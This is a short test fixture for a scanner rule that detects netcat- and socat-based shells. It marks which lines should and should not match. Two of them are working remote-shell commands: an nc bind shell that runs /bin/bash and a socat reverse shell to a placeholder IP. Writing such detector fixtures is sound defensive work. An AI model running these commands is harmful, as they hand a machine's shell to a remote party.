# Fixture for sh.netcat-exec-shell (written for provscan; not from any project).
# ruleid: sh.netcat-exec-shell
nc -lvnp 4444 -e /bin/bash
# ruleid: sh.netcat-exec-shell
socat tcp-connect:198.51.100.4:4444 exec:'bash -li',pty,stderr
# ok: sh.netcat-exec-shell
nc -z db.internal 5432 && echo ready
# ok: sh.netcat-exec-shell
ncat --ssl -l 8443 > received.bin
